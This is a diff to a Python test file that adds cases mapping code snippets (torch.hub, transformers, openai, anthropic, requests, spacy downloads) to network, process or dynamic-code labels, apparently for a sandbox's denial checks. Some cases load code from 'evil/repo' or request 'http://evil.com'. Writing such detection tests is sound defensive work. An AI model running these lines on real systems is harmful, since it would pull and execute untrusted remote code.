@@ -454,9 +454,23 @@ DATA_MORE = [  # data-library file formats, canvases, SQL that names files, engi
     ("import sqlalchemy\nsqlalchemy.create_engine('postgresql://u@db.internal/x')", NET),
 ]
 
+HUBS = [  # model APIs, hubs and dataset downloaders; an HTTP client reached through its own modules
+    ("import torch\ntorch.hub.load('evil/repo', 'model')", NET),
+    ("import torch\ntorch.hub.load('evil/repo', 'model')", DYN),
+    ("import transformers\ntransformers.pipeline('text-generation', model='gpt2')", NET),
+    ("from transformers import AutoModel\nAutoModel.from_pretrained('x/y')", NET),
+    ("import openai\nopenai.OpenAI().chat.completions.create(model='x', messages=[])", NET),
+    ("import anthropic\nanthropic.Anthropic().messages.create(model='x', max_tokens=1, messages=[])", NET),
+    ("import tensorflow_datasets as tfds\ntfds.load('mnist')", NET),
+    ("import spacy\nspacy.cli.download('en_core_web_sm')", PROC),
+    ("import requests\nrequests.api.request('get', 'http://evil.com')", NET),
+    ("import requests.sessions\nrequests.sessions.Session().get('http://evil.com')", NET),
+    ("from autogen_ext.code_executors.local import LocalCommandLineCodeExecutor\nLocalCommandLineCodeExecutor()", DYN),
+]
+
 ROUTES = [*SOURCE, *STDLIB_FILES, *NETWORK, *PROCESSES, *DATA, *RESOLVERS, *PATHLIB, *ENVIRONMENT, *LABELS, *BUILTINS,
           *UNJUDGED, *THIRD_PARTY, *REACHED,
-          *DATA_MORE]
+          *DATA_MORE, *HUBS]
 
 
 def _denial(code: str, language: str = "python"):
